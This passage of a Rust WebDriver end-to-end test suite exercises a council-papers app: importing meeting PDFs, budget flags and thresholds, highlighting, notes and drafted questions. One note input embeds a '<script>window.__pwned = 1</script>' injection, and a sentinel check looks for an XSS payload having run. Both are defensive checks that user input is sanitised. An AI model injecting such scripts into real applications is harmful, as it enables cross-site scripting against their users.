        return Err(format!("only {opened} hostile items were opened"));
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let sentinel = client
        .execute(
            "return typeof window.__xss === 'undefined' ? null : String(window.__xss)",
            vec![],
        )
        .await
        .map_err(err)?;
    if !sentinel.is_null() {
        return Err(format!("payload {sentinel} ran"));
    }
    let href = client
        .execute("return location.href", vec![])
        .await
        .map_err(err)?;
    if href.as_str().is_some_and(|h| h.contains("127.0.0.1")) {
        return Err(format!("the window left the app: {href}"));
    }
    Ok(())
}

/// The corpus PDFs of one meeting, by file-name prefix, as a pick list.
fn corpus_pdfs(prefixes: &[&str]) -> Option<std::ffi::OsString> {
    let dir = manifest_dir().join("../../shared/corpus/pdf");
    if !dir.is_dir() {
        assert!(
            std::env::var_os("SCRUTINEER_REQUIRE_CORPUS").is_none(),
            "the corpus PDFs are at {}",
            dir.display()
        );
        eprintln!("skipped: this end-to-end test needs ../shared/corpus, not beside this clone");
        return None;
    }
    let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("corpus/pdf")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .collect();
    names.sort();
    let picked: Vec<PathBuf> = prefixes
        .iter()
        .map(|p| {
            names
                .iter()
                .find(|n| {
                    n.file_name()
                        .is_some_and(|f| f.to_string_lossy().starts_with(p))
                })
                .expect("a corpus PDF")
                .clone()
        })
        .collect();
    Some(std::env::join_paths(picked).expect("paths"))
}

/// Kent's Cabinet of 30 January 2025: its agenda, budget report, the
/// report's appendix (no header of its own) and its minutes, imported
/// together, open as one meeting with four papers. A paper removed from
/// it comes back with Undo.
#[tokio::test(flavor = "multi_thread")]
async fn one_meetings_four_papers_open_as_one_meeting_and_a_removal_can_be_undone() {
    let _one = ONE_AT_A_TIME.lock().await;
    let Some(pick) = corpus_pdfs(&["p07", "p01", "p02", "p04"]) else {
        return;
    };
    with_app(
        "e2e-meeting.png",
        &[("SCRUTINEER_E2E_PICK", pick.as_os_str())],
        |c| async move {
            let r = one_meeting(&c).await;
            (c, r)
        },
    )
    .await;
}

/// The kinds of the papers the open meeting shows, read in one script so a
/// list that is being redrawn cannot hand back a stale element.
async fn papers_shown(client: &Client) -> Result<Vec<String>, String> {
    let kinds = client
        .execute("return [...document.querySelectorAll(\"[data-testid='paper']\")].map((p) => p.dataset.kind);", vec![])
        .await
        .map_err(|e| e.to_string())?;
    Ok(kinds
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|k| k.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default())
}

/// The notice line's text, if one is shown.
async fn notice(client: &Client) -> Result<String, String> {
    let text = client
        .execute(
            "return document.querySelector(\"[data-testid='notice']\")?.textContent ?? '';",
            vec![],
        )
        .await
        .map_err(|e| e.to_string())?;
    Ok(text.as_str().unwrap_or_default().to_string())
}

async fn one_meeting(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let reports = try_wait_for(
        client,
        "[data-testid='import-reports']",
        Duration::from_secs(120),
    )
    .await?
    .text()
    .await
    .map_err(err)?;
    if reports.matches("Imported").count() < 4 {
        return Err(format!("four PDFs should import: {reports}"));
    }
    // The meeting the papers joined opens by itself.
    let heading = try_wait_for(client, "[data-testid='meeting-heading']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !heading.contains("Cabinet") || !heading.contains("30 January 2025") {
        return Err(format!("the imported meeting did not open: {heading}"));
    }
    let kinds = papers_shown(client).await?;
    if kinds != ["agenda", "report", "paper", "minutes"] {
        return Err(format!(
            "one meeting with its four papers in order, got {kinds:?}"
        ));
    }
    let rows = client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(err)?;
    let mut of_the_day = 0;
    for row in rows {
        if row.text().await.map_err(err)?.contains("30 January 2025") {
            of_the_day += 1;
        }
    }
    if of_the_day != 1 {
        return Err(format!("the meeting is listed {of_the_day} times"));
    }
    // Remove the minutes, then undo.
    let removes = client
        .find_all(Locator::Css("[data-testid='remove-paper']"))
        .await
        .map_err(err)?;
    removes
        .last()
        .ok_or("no Remove button")?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='notice']", LIMIT).await?;
    let said = notice(client).await?;
    if !said.contains("Removed") {
        return Err(format!("no word of the removal: {said}"));
    }
    if papers_shown(client).await?.len() != 3 {
        return Err("the removed paper is still shown".into());
    }
    try_wait_for(client, "[data-testid='undo']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let mut back = false;
    for _ in 0..60 {
        if papers_shown(client).await?.len() == 4 {
            back = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    if !back {
        return Err(format!(
            "Undo did not bring the paper back: {:?}",
            papers_shown(client).await?
        ));
    }
    // Re-read the whole library from the menu: the meeting stays as it was.
    try_wait_for(client, "[data-testid='reread-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    for _ in 0..240 {
        let said = notice(client).await?;
        if said.contains("Re-read") {
            if !said.contains("Re-read 9 papers") {
                return Err(format!(
                    "the five samples and four PDFs are re-read: {said}"
                ));
            }
            let kinds = papers_shown(client).await?;
            return if kinds == ["agenda", "report", "paper", "minutes"] {
                Ok(())
            } else {
                Err(format!("after re-reading: {kinds:?}"))
            };
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    Err("the re-reading did not finish".into())
}

/// While a batch of PDFs imports, the window answers: a meeting and an
/// item open before the batch ends (each paper is read in a worker and
/// written with the writer's lock; reads use their own connection).
#[tokio::test(flavor = "multi_thread")]
async fn the_window_answers_while_a_batch_imports() {
    let _one = ONE_AT_A_TIME.lock().await;
    let Some(pick) = corpus_pdfs(&["p05", "p11", "p12", "p09", "p10", "p08", "p02", "p01"]) else {
        return;
    };
    with_app(
        "e2e-responsive.png",
        &[("SCRUTINEER_E2E_PICK", pick.as_os_str())],
        |c| async move {
            let r = responsive(&c).await;
            (c, r)
        },
    )
    .await;
}

async fn responsive(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "progress", LIMIT).await?;
    // A sample meeting and one of its items, opened mid-batch.
    for row in client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(err)?
    {
        if row.text().await.map_err(err)?.contains("1 December 2022") {
            row.click().await.map_err(err)?;
            break;
        }
    }
    let heading = try_wait_for(
        client,
        "[data-testid='meeting-heading']",
        Duration::from_secs(5),
    )
    .await?
    .text()
    .await
    .map_err(err)?;
    if !heading.contains("1 December 2022") {
        return Err(format!("opened {heading}"));
    }
    click_until(client, "[data-testid='item']", "#item-heading").await?;
    if client
        .find_all(Locator::Css("progress"))
        .await
        .map_err(err)?
        .is_empty()
    {
        return Err("the batch ended before the meeting and item were opened: the window may have been blocked".into());
    }
    try_wait_for(
        client,
        "[data-testid='import-reports']",
        Duration::from_secs(300),
    )
    .await?;
    Ok(())
}

/// A figure in a PDF's item opens its page of the original, drawn in the
/// window (pdf.js, bundled) with the amount marked.
#[tokio::test(flavor = "multi_thread")]
async fn a_figure_opens_on_its_page_of_the_original_with_the_amount_marked() {
    let _one = ONE_AT_A_TIME.lock().await;
    let Some(pick) = corpus_pdfs(&["p01"]) else {
        return;
    };
    with_app(
        "e2e-original.png",
        &[("SCRUTINEER_E2E_PICK", pick.as_os_str())],
        |c| async move {
            let r = original_page(&c).await;
            (c, r)
        },
    )
    .await;
}

async fn original_page(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(
        client,
        "[data-testid='import-reports']",
        Duration::from_secs(120),
    )
    .await?;
    // The report's meeting opens by itself; its one item is the report.
    try_wait_for(client, "[data-testid='meeting-heading']", LIMIT).await?;
    click_until(
        client,
        "[data-testid='item']",
        "[data-testid='figure-page']",
    )
    .await?;
    let label = client
        .find(Locator::Css("[data-testid='figure-page']"))
        .await
        .map_err(err)?
        .attr("aria-label")
        .await
        .map_err(err)?
        .unwrap_or_default();
    click_until(
        client,
        "[data-testid='figure-page']",
        "[data-testid='page-view']",
    )
    .await?;
    let mut status = String::new();
    for _ in 0..60 {
        status = client
            .find(Locator::Css("[data-testid='page-view-status']"))
            .await
            .map_err(err)?
            .text()
            .await
            .map_err(err)?;
        if !status.starts_with("Drawing") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    if !status.contains("is marked") {
        return Err(format!(
            "{label}: the page did not show the amount marked: {status}"
        ));
    }
    // The canvas holds a drawn page: some of its pixels are dark (text).
    let ink = client
        .execute(
            "const c = document.querySelector(\"[data-testid='page-canvas']\");
             const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
             let dark = 0; for (let i = 0; i < d.length; i += 4) if (d[i] < 100 && d[i + 3] > 0) dark++;
             return [c.width, c.height, dark, document.querySelectorAll(\"[data-testid='page-mark']\").length];",
            vec![],
        )
        .await
        .map_err(err)?;
    let n: Vec<u64> = ink
        .as_array()
        .ok_or("no answer")?
        .iter()
        .filter_map(serde_json::Value::as_u64)
        .collect();
    if n.len() != 4 || n[0] < 300 || n[2] < 1000 || n[3] == 0 {
        return Err(format!("{label}: the page was not drawn with a mark (width, height, dark pixels, marks): {ink}"));
    }
    // Escape closes it and the item is where it was.
    client
        .find(Locator::Css("[data-testid='page-view-close']"))
        .await
        .map_err(err)?
        .click()
        .await
        .map_err(err)?;
    tokio::time::sleep(Duration::from_millis(300)).await;
    if !client
        .find_all(Locator::Css("[data-testid='page-view']"))
        .await
        .map_err(err)?
        .is_empty()
    {
        return Err("the page view did not close".into());
    }
    try_wait_for(client, "#item-heading", LIMIT)
        .await
        .map(|_| ())
}

/// Two quarterly reports of one council (the project's own fixtures):
/// the later one's Flags view says why each line is flagged, a threshold
/// changed in the window changes the flags at once, a dismissed flag stays
/// struck through with its reason, and a line's history is drawn as a
/// chart with its table beside it.
#[tokio::test(flavor = "multi_thread")]
async fn flags_explain_themselves_follow_thresholds_and_a_line_has_a_history() {
    let _one = ONE_AT_A_TIME.lock().await;
    let dir = manifest_dir().join("../tests/fixtures/flags");
    let pick = std::env::join_paths([
        dir.join("northshire_cabinet_2025-09-18_budget_monitoring_q1.txt"),
        dir.join("northshire_cabinet_2025-12-11_budget_monitoring_q2.txt"),
    ])
    .expect("paths");
    with_app(
        "e2e-flags.png",
        &[("SCRUTINEER_E2E_PICK", pick.as_os_str())],
        |c| async move {
            let r = flags(&c).await;
            (c, r)
        },
    )
    .await;
}

/// The live flags' count and reasons, read in one script.
async fn flags_shown(client: &Client) -> Result<(u64, Vec<String>), String> {
    let v = client
        .execute(
            "return [Number(document.querySelector(\"[data-testid='flag-count']\")?.textContent ?? -1),
                     [...document.querySelectorAll(\"[data-testid='flag']\")].map((f) => f.dataset.rule + ': ' + f.querySelector(\"[data-testid='flag-reason']\").textContent)];",
            vec![],
        )
        .await
        .map_err(|e| e.to_string())?;
    let count = v[0].as_u64().ok_or(format!("no flag count: {v}"))?;
    let reasons = v[1]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|r| r.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    Ok((count, reasons))
}

async fn flags(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    try_wait_for(client, "[data-testid='import-button']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let reports = try_wait_for(client, "[data-testid='import-reports']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if reports.matches("Imported").count() < 2 {
        return Err(format!("both reports should import: {reports}"));
    }
    // The December report is the newest meeting: it heads the list.
    let rows = client
        .find_all(Locator::Css("[data-testid='meeting']"))
        .await
        .map_err(err)?;
    rows.first()
        .ok_or("no meetings")?
        .click()
        .await
        .map_err(err)?;
    let heading = try_wait_for(client, "[data-testid='meeting-heading']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !heading.contains("11 December 2025") {
        return Err(format!("the December meeting did not open: {heading}"));
    }
    click_until(
        client,
        "[data-testid='show-flags']",
        "[data-testid='flags-view']",
    )
    .await?;
    let (before, reasons) = flags_shown(client).await?;
    let want = [
        "variance_over_threshold: Adult Health & Social Care - Adults: forecast overspend +£4.6m against a budget of £412.5m (1.1%); threshold £0.5m or 5%",
        "adverse_movement: Adult Health & Social Care - Adults: variance worsened by £1.8m since the last report, from +£2.8m in the report of 2025-09-18 to +£4.6m",
        "savings_at_risk: Savings at risk: £2.1m",
        "large_underspend: Highways & Transport: forecast underspend £1.3m",
    ];
    for w in want {
        if !reasons.iter().any(|r| r.starts_with(w)) {
            return Err(format!("no flag reading {w:?} in {reasons:#?}"));
        }
    }

    // A threshold of £5m: the £4.6m overspend (1.1% of its budget) is no longer flagged.
    try_wait_for(client, "[data-testid='thresholds'] summary", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    // Typed as a member would: select what is there, type over it, Tab away
    // (WebKitWebDriver's clear() does not fire the input event Svelte reads).
    let input = try_wait_for(client, "[data-testid='t-variance']", LIMIT).await?;
    input.click().await.map_err(err)?;
    client
        .execute(
            "document.querySelector(\"[data-testid='t-variance']\").select();",
            vec![],
        )
        .await
        .map_err(err)?;
    input.send_keys("5\u{E004}").await.map_err(err)?;
    let mut after = (before, reasons.clone());
    for _ in 0..50 {
        after = flags_shown(client).await?;
        if after.0 < before {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    if after.0 >= before
        || after
            .1
            .iter()
            .any(|r| r.starts_with("variance_over_threshold: Adult Health"))
    {
        return Err(format!(
            "a £5m threshold left {} of {before} flags: {:#?}",
            after.0, after.1
        ));
    }

    // Dismiss the worsening with a reason: struck through, reason shown, restorable.
    let worse = "[data-testid='flag'][data-rule='adverse_movement'][data-key*='adult']";
    try_wait_for(
        client,
        &format!("{worse} [data-testid='dismiss-flag']"),
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    try_wait_for(
        client,
        &format!("{worse} [data-testid='dismiss-reason']"),
        LIMIT,
    )
    .await?
    .send_keys("Asked in September")
    .await
    .map_err(err)?;
    try_wait_for(
        client,
        &format!("{worse} [data-testid='confirm-dismiss']"),
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    let struck = try_wait_for(client, &format!("{worse} s"), LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    let card = try_wait_for(client, worse, LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !struck.contains("worsened")
        || !card.contains("Dismissed: Asked in September")
        || !card.contains("Restore")
    {
        return Err(format!("the dismissed flag: {card}"));
    }

    // The line's history: two reports, a chart drawn beside the table.
    try_wait_for(
        client,
        &format!("{worse} [data-testid='show-history']"),
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    let table = try_wait_for(client, "[data-testid='history-table']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !table.contains("2025-09-18")
        || !table.contains("+£2.8m")
        || !table.contains("2025-12-11")
        || !table.contains("+£4.6m")
    {
        return Err(format!("the history table: {table}"));
    }
    let mut drawn = serde_json::Value::Null;
    for _ in 0..50 {
        drawn = client
            .execute(
                "const c = document.querySelector(\"[data-testid='history-chart']\");
                 if (!c || !c.width) return 0;
                 const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
                 let ink = 0; for (let i = 3; i < d.length; i += 4) if (d[i] > 0) ink++;
                 return ink;",
                vec![],
            )
            .await
            .map_err(err)?;
        if drawn.as_u64().unwrap_or(0) > 500 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    if drawn.as_u64().unwrap_or(0) <= 500 {
        return Err(format!(
            "the history chart was not drawn ({drawn} inked pixels)"
        ));
    }

    // A question about a budget line, from the picker.
    client
        .execute(
            "document.querySelector('.hand').open = true;
             const s = document.querySelector(\"[data-testid='hand-target']\");
             const o = [...s.options].find((o) => o.textContent.startsWith('Libraries'));
             s.value = o.value; s.dispatchEvent(new Event('change', { bubbles: true }));",
            vec![],
        )
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='ask-target']:not([disabled])", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let text = try_wait_for(client, "[data-testid='question-text']", LIMIT)
        .await?
        .prop("value")
        .await
        .map_err(err)?
        .unwrap_or_default();
    if !text.starts_with(
        "The report shows Libraries: forecast variance +£0.7m against a budget of £12m",
    ) {
        return Err(format!("the question about Libraries: {text}"));
    }
    Ok(())
}

/// A member selects words in a sample item, highlights them with a note in
/// Markdown and a tag: the words are highlighted in the text, the note is
/// shown rendered in the margin and in the meeting's Notes, and a deleted
/// note comes back with Undo.
#[tokio::test(flavor = "multi_thread")]
async fn words_selected_in_an_item_are_highlighted_with_a_note_that_can_be_undeleted() {
    let _one = ONE_AT_A_TIME.lock().await;
    with_app("e2e-annotate.png", &[], |c| async move {
        let r = annotate(&c).await;
        (c, r)
    })
    .await;
}

/// Clicks the first element matching `css` whose text holds `text`.
async fn click_text(client: &Client, css: &str, text: &str) -> Result<(), String> {
    for _ in 0..50 {
        for e in client
            .find_all(Locator::Css(css))
            .await
            .map_err(|e| e.to_string())?
        {
            if e.text().await.map_err(|e| e.to_string())?.contains(text) {
                return e.click().await.map_err(|e| e.to_string());
            }
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    Err(format!("no {css} reading {text:?}"))
}

async fn annotate(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "1 December 2022").await?;
    click_text(
        client,
        "[data-testid='item']",
        "Revenue and Capital Budget Monitoring",
    )
    .await?;
    try_wait_for(client, "[data-testid='annotate-panel']", LIMIT).await?;
    // Select "introduced the report" as a member would with the mouse.
    let quote = "introduced the report";
    highlight(
        client,
        quote,
        "Ask **why** <script>window.__pwned = 1</script>",
        Some("finance"),
    )
    .await?;
    let mark = try_wait_for(client, "[data-testid='highlight']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if mark != quote {
        return Err(format!("the highlight reads {mark:?}"));
    }
    let note_html = client
        .execute(
            "return document.querySelector(\"[data-testid='annotation-note']\")?.innerHTML ?? '';",
            vec![],
        )
        .await
        .map_err(err)?;
    let note_html = note_html.as_str().unwrap_or_default();
    if !note_html.contains("<strong>why</strong>") || note_html.contains("script") {
        return Err(format!("the note in the margin: {note_html}"));
    }
    let pwned = client
        .execute("return window.__pwned ?? null;", vec![])
        .await
        .map_err(err)?;
    if !pwned.is_null() {
        return Err("a script in a note ran".into());
    }
    // The meeting's Notes list it; delete, then Undo.
    click_until(
        client,
        "[data-testid='show-notes']",
        "[data-testid='meeting-notes'] [data-testid='annotation']",
    )
    .await?;
    let listed = try_wait_for(client, "[data-testid='meeting-notes']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !listed.contains(quote) || !listed.contains("#finance") {
        return Err(format!("the meeting's notes: {listed}"));
    }
    try_wait_for(
        client,
        "[data-testid='meeting-notes'] [data-testid='delete-annotation']",
        LIMIT,
    )
    .await?
    .click()
    .await
    .map_err(err)?;
    try_wait_for(client, "[data-testid='undo']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let mut back = false;
    for _ in 0..50 {
        let n = client
            .find_all(Locator::Css(
                "[data-testid='meeting-notes'] [data-testid='annotation']",
            ))
            .await
            .map_err(err)?
            .len();
        let marks = client
            .find_all(Locator::Css("[data-testid='highlight']"))
            .await
            .map_err(err)?
            .len();
        if n == 1 && marks == 1 {
            back = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    if !back {
        return Err("the deleted note did not come back with Undo".into());
    }
    // A promise in these minutes, marked as a commitment due in the past,
    // is listed as overdue.
    try_wait_for(client, "[data-testid='suggestion']", LIMIT).await?;
    client
        .execute("const d = document.querySelector(\"[data-testid='suggestion-due']\"); d.value = '2023-01-31';", vec![])
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='mark-commitment']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='notice']", LIMIT).await?;
    click_until(
        client,
        "[data-testid='commitments-button']",
        "[data-testid='commitment']",
    )
    .await?;
    let c = try_wait_for(client, "[data-testid='commitment']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !c.contains("Overdue") || !c.contains("2023-01-31") {
        return Err(format!("the commitment: {c}"));
    }
    Ok(())
}

/// The issue's walk through the real app: in the 26 March 2018 Cabinet
/// pack, select a sentence of item 5, highlight it with a note; draft a
/// question from the Asylum flag; edit it in Markdown and see the
/// preview; set it ready; restart the app: all of it is still there, the
/// highlight shown in the text.
#[tokio::test(flavor = "multi_thread")]
async fn a_question_drafted_from_a_flag_and_a_highlight_survive_a_restart() {
    let _one = ONE_AT_A_TIME.lock().await;
    assert!(
        std::env::var_os("DISPLAY").is_some(),
        "run under a display: xvfb-run -a cargo test"
    );
    let data_home = tempfile::tempdir().expect("temp dir");
    for (run, shot) in [(1, "e2e-question-1.png"), (2, "e2e-question-2.png")] {
        let driver = Driver::start(data_home.path(), &[]);
        let client = connect(&driver).await;
        let result = if run == 1 {
            draft(&client).await
        } else {
            after_restart(&client).await
        };
        tokio::time::sleep(Duration::from_millis(500)).await;
        if let Ok(png) = client.screenshot().await {
            std::fs::write(artifacts_dir().join(shot), png).expect("write screenshot");
        }
        let _ = client.close().await;
        drop(driver);
        result.unwrap();
    }
}

/// Selects `quote` in the open item's text, as a member would with the
/// mouse, and highlights it as "ask" with `note` (and `tags`).
async fn highlight(
    client: &Client,
    quote: &str,
    note: &str,
    tags: Option<&str>,
) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    let selected = client
        .execute(
            "const q = arguments[0];
             const el = [...document.querySelectorAll(\"[data-testid='item-text'] [data-off]\")].find((e) => e.textContent.includes(q));
             if (!el) return [...document.querySelectorAll(\"[data-testid='item-text'] [data-off]\")].slice(0, 3).map((e) => e.textContent).join(' | ');
             const t = el.firstChild, i = t.textContent.indexOf(q);
             const r = document.createRange(); r.setStart(t, i); r.setEnd(t, i + q.length);
             const s = document.getSelection(); s.removeAllRanges(); s.addRange(r);
             document.querySelector(\"[data-testid='item-text']\").dispatchEvent(new MouseEvent('mouseup', { bubbles: true }));
             return true;",
            vec![serde_json::json!(quote)],
        )
        .await
        .map_err(err)?;
    if selected != serde_json::json!(true) {
        return Err(format!("{quote:?} is not in the item: {selected}"));
    }
    try_wait_for(client, "[data-testid='annotate-note']", LIMIT)
        .await?
        .send_keys(note)
        .await
        .map_err(err)?;
    if let Some(tags) = tags {
        try_wait_for(client, "[data-testid='annotate-tags']", LIMIT)
            .await?
            .send_keys(tags)
            .await
            .map_err(err)?;
    }
    try_wait_for(client, "[data-testid='highlight-ask']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    try_wait_for(client, "[data-testid='highlight']", LIMIT).await?;
    Ok(())
}

async fn draft(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(5) > [data-testid='item']",
        "[data-testid='item-view']",
    )
    .await?;
    // The first sentence of item 5's text.
    let sentence = client
        .execute(
            "for (const e of document.querySelectorAll(\"[data-testid='item-text'] [data-off]\")) {
               const m = e.textContent.match(/[A-Z][a-z][^.:]{30,120}\\./); if (m) return m[0];
             }
             return null;",
            vec![],
        )
        .await
        .map_err(err)?;
    let sentence = sentence
        .as_str()
        .ok_or("item 5 has no sentence to select")?
        .to_string();
    let words: String = sentence
        .split_whitespace()
        .take(6)
        .collect::<Vec<_>>()
        .join(" ");
    highlight(client, &words, "Check this", None).await?;
    std::fs::write(artifacts_dir().join("e2e-question-quote.txt"), &words)
        .expect("keep the quote for the second run");

    // A question from the Asylum flag.
    click_until(
        client,
        "[data-testid='show-flags']",
        "[data-testid='flags-view']",
    )
    .await?;
    let asylum = "[data-testid='flag'][data-rule='variance_over_threshold'][data-key*='asylum'] [data-testid='ask-flag']";
    try_wait_for(client, asylum, LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let text = try_wait_for(client, "[data-testid='question-text']", LIMIT).await?;
    let drafted = text.prop("value").await.map_err(err)?.unwrap_or_default();
    if !drafted.contains("Asylum") || !drafted.contains("forecast overspend") {
        return Err(format!("the drafted question: {drafted}"));
    }
    let evidence = try_wait_for(client, "[data-testid='evidence']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !evidence.contains("Asylum") {
        return Err(format!("the question's evidence: {evidence}"));
    }
    // Typed at the end of the draft.
    client
        .execute("const t = document.querySelector(\"[data-testid='question-text']\"); t.focus(); t.setSelectionRange(t.value.length, t.value.length);", vec![])
        .await
        .map_err(err)?;
    text.send_keys("\n\n**Why** has it grown?")
        .await
        .map_err(err)?;
    let mut preview = String::new();
    for _ in 0..50 {
        preview = client
            .execute(
                "return document.querySelector(\"[data-testid='question-preview']\").innerHTML;",
                vec![],
            )
            .await
            .map_err(err)?
            .as_str()
            .unwrap_or_default()
            .to_string();
        if preview.contains("<strong>Why</strong>") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    if !preview.contains("<strong>Why</strong>") {
        return Err(format!("the preview: {preview}"));
    }
    client
        .execute(
            "const s = document.querySelector(\"[data-testid='question-status']\"); s.value = 'ready'; s.dispatchEvent(new Event('change', { bubbles: true }));",
            vec![],
        )
        .await
        .map_err(err)?;
    try_wait_for(
        client,
        "[data-testid='question'][data-status='ready']",
        LIMIT,
    )
    .await?;
    // Give the typed text's save its moment.
    tokio::time::sleep(Duration::from_millis(1000)).await;
    // A second, blank question, deleted: it is kept to restore after a restart.
    try_wait_for(client, "[data-testid='add-question']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    for _ in 0..50 {
        if client
            .find_all(Locator::Css("[data-testid='question']"))
            .await
            .map_err(err)?
            .len()
            == 2
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let deletes = client
        .find_all(Locator::Css("[data-testid='delete-question']"))
        .await
        .map_err(err)?;
    deletes
        .last()
        .ok_or("no Delete on the new question")?
        .click()
        .await
        .map_err(err)?;
    // Drafting also offers Undo: wait for the deletion's own notice, so
    // the app is not closed before the deletion is saved.
    for _ in 0..50 {
        let said = client
            .execute(
                "return document.querySelector(\"[data-testid='notice']\")?.textContent ?? '';",
                vec![],
            )
            .await
            .map_err(err)?;
        if said
            .as_str()
            .is_some_and(|t| t.contains("Question deleted."))
        {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Err("deleting the question never said so".into())
}

async fn after_restart(client: &Client) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    let words = std::fs::read_to_string(artifacts_dir().join("e2e-question-quote.txt"))
        .map_err(|e| e.to_string())?;
    try_wait_for(client, "[data-testid='meeting']", LIMIT).await?;
    click_text(client, "[data-testid='meeting']", "26 March 2018").await?;
    click_until(
        client,
        "[data-testid='show-questions']",
        "[data-testid='question']",
    )
    .await?;
    try_wait_for(
        client,
        "[data-testid='question'][data-status='ready']",
        LIMIT,
    )
    .await?;
    let value = client
        .execute("return document.querySelector(\"[data-testid='question'][data-status='ready'] [data-testid='question-text']\").value;", vec![])
        .await
        .map_err(|e| format!("the question's text after a restart: {e}"))?;
    let value = value.as_str().unwrap_or_default().to_string();
    if !value.contains("Asylum") || !value.contains("**Why** has it grown?") {
        return Err(format!("after a restart the question reads: {value}"));
    }
    click_until(
        client,
        "[data-testid='show-agenda']",
        "[data-testid='item']",
    )
    .await
    .map_err(|e| format!("back to the papers: {e}"))?;
    click_until(
        client,
        "[data-testid='item-list'] > li:nth-child(5) > [data-testid='item']",
        "[data-testid='highlight']",
    )
    .await?;
    let mark = try_wait_for(client, "[data-testid='highlight']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if mark != words {
        return Err(format!(
            "after a restart the highlight reads {mark:?}, not {words:?}"
        ));
    }
    let note = try_wait_for(client, "[data-testid='annotation-note']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !note.contains("Check this") {
        return Err(format!("after a restart the note reads {note:?}"));
    }
    // Every open question, across meetings.
    click_until(
        client,
        "[data-testid='open-questions-button']",
        "[data-testid='open-questions'] [data-testid='question']",
    )
    .await?;
    let open = try_wait_for(client, "[data-testid='open-questions']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !open.contains("Cabinet, 2018-03-26") {
        return Err(format!("the open questions: {open}"));
    }
    // The question deleted before the restart can still be restored.
    click_until(
        client,
        "[data-testid='deleted-button']",
        "[data-testid='deleted-item']",
    )
    .await?;
    try_wait_for(client, "[data-testid='restore-deleted']", LIMIT)
        .await?
        .click()
        .await
        .map_err(err)?;
    let said = try_wait_for(client, "[data-testid='notice']", LIMIT)
        .await?
        .text()
        .await
        .map_err(err)?;
    if !said.contains("The question is back") {
